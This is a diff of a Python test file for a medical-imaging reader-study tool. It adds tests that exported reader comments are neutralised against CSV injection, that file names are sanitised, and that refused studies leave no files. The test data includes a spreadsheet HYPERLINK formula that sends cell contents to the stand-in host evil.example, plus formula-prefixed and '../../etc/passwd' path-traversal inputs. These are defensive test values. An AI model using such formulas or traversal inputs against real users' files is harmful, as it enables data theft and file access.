@@ -6,15 +6,19 @@ import nibabel as nib
 import numpy as np
 import pandas as pd
 import pydicom
+import pytest
 from pydicom.data import get_testdata_file
 
 from core.io import load_volume
 from core.types import to_display
 from db.migrate import upgrade
 from db.models import Arm, Role
-from db.repository import create_reader, next_case, reading_list, save_read
+from db.repository import create_account, next_case, reading_list, save_read
 from db.session import make_engine, make_session_factory, session_scope
 from db.studies import create_study_from_files, export_study
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(tmp_path):
@@ -27,8 +31,8 @@ def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(
     upgrade(engine)
     factory = make_session_factory(engine)
     with session_scope(factory) as s:
-        admin = create_reader(s, "admin", "admin-pass-1", Role.ADMIN)
-        ann, bob = create_reader(s, "ann", "ann-password"), create_reader(s, "bob", "bob-password")
+        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
+        ann, bob = create_account(s, "ann", "ann-password"), create_account(s, "bob", "bob-password")
         study = create_study_from_files(s, admin, "Export check", [dicom, nifti], {ann.id: Arm.AI, bob.id: Arm.UNAIDED},
                                         studies_dir=tmp_path / "studies")
         study_id, cases = study.id, {c.name: c for c in study.cases}
@@ -47,7 +51,8 @@ def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(
         for case, _ in reading_list(s, ann, study_id):
             masks = {2: drawn} if case.name == "case-002" else None
             save_read(s, ann, case.id, expected_version=0, masks=masks, seconds=20.0,
-                      answers={"realism": 4, "heatmap_useful": 5, "artifact_present": True, "actionable": 4})
+                      answers={"realism": 4, "heatmap_useful": 5, "artifact_present": True, "actionable": 4,
+                               "comment": FORMULA})
         while (case := next_case(s, bob, study_id)) is not None:
             save_read(s, bob, case.id, expected_version=0, seconds=10.0,
                       answers={"realism": 4, "artifact_present": False, "actionable": 3})
@@ -55,7 +60,10 @@ def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(
         paths = export_study(s, s.get(Reader, ids[0]), study_id, tmp_path / "export")
 
     answers = pd.read_csv(paths["answers"])
-    assert len(answers) == 2 * 4 + 2 * 3 and set(answers["reader"]) == {"ann", "bob"}
+    assert len(answers) == 2 * 5 + 2 * 3 and set(answers["reader"]) == {"ann", "bob"}
+    # a reader's comment that a spreadsheet would run (OWASP CSV injection) is exported as text
+    assert answers.loc[answers["question"] == "comment", "text"].tolist() == ["'" + FORMULA] * 2
+    assert FORMULA not in paths["answers"].read_text().replace("'" + FORMULA, "")
     summary = json.loads(paths["summary"].read_text())
     assert summary["questions"]["realism"]["mean"] == 4.0
     assert summary["agreement"]["realism"]["all"]["cases_rated_by_all"] == 2  # one group: readers of either arm
@@ -94,8 +102,8 @@ def test_a_case_keeps_the_tau_profile_and_slice_flags_its_ai_heatmap_was_scored_
     upgrade(engine)
     factory = make_session_factory(engine)
     with session_scope(factory) as s:
-        admin = create_reader(s, "admin", "admin-pass-1", Role.ADMIN)
-        ann = create_reader(s, "ann", "ann-password")
+        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
+        ann = create_account(s, "ann", "ann-password")
         study = create_study_from_files(s, admin, "AI settings", [nifti], {ann.id: Arm.AI}, scorer=scorer,
                                         studies_dir=tmp_path / "studies")
         (case,) = study.cases
@@ -109,4 +117,40 @@ def test_a_case_keeps_the_tau_profile_and_slice_flags_its_ai_heatmap_was_scored_
     reference = safegen_mask(volume, heatmap, tau, flags)
     assert np.array_equal(reference, volume.display_slices_of(unsafe_mask(heatmap, 0.5, flags)).astype(bool))
     assert np.array_equal(reference, volume.display_slices_of(expected.mask).astype(bool))
+    engine.dispose()
+
+
+def test_spreadsheet_safe_quotes_formulas_and_leaves_numbers_and_text():
+    from core.export import safe_file_stem, spreadsheet_safe
+
+    frame = pd.DataFrame({"text": ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "-0.5", "plain", None],
+                          "number": [-1.0, 2, 3, 4, 5, 6, 7, 8], "=name": [""] * 8})
+    safe = spreadsheet_safe(frame)
+    assert safe["text"].tolist()[:7] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "-0.5", "plain"]
+    assert pd.isna(safe["text"].iloc[7])
+    assert safe["number"].tolist() == frame["number"].tolist() and list(safe.columns) == ["text", "number", "'=name"]
+    assert frame["text"][0] == "=1+1"  # the caller's table is not changed
+    assert [safe_file_stem(n) for n in ("case-001_ann", "../../etc/passwd", "a/b c", "")] == [
+        "case-001_ann", "_.._etc_passwd", "a_b_c", "_"]
+
+
+def test_a_refused_study_from_files_leaves_no_case_file_behind(tmp_path):
+    from db.repository import StudyError
+
+    good = tmp_path / "good.nii.gz"
+    nib.save(nib.Nifti1Image(np.random.default_rng(0).uniform(0, 100, (6, 5, 3)).astype(np.float32), np.eye(4)), good)
+    bad = tmp_path / "bad.nii.gz"
+    bad.write_bytes(b"not a nifti at all")
+    engine = make_engine(f"sqlite:///{tmp_path / 'study.db'}")
+    upgrade(engine)
+    factory = make_session_factory(engine)
+    studies = tmp_path / "studies"
+    with session_scope(factory) as s:
+        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
+        ann = create_account(s, "ann", "ann-password")
+        with pytest.raises(ValueError, match="bad.nii.gz is not a NIfTI"):  # the second file is refused after the first is stored
+            create_study_from_files(s, admin, "Half", [good, bad], {ann.id: Arm.AI}, studies_dir=studies)
+        with pytest.raises(StudyError, match="only an admin"):  # refused before anything is written
+            create_study_from_files(s, ann, "Mine", [good], {ann.id: Arm.AI}, studies_dir=studies)
+    assert not studies.exists() or not any(studies.rglob("*"))
     engine.dispose()
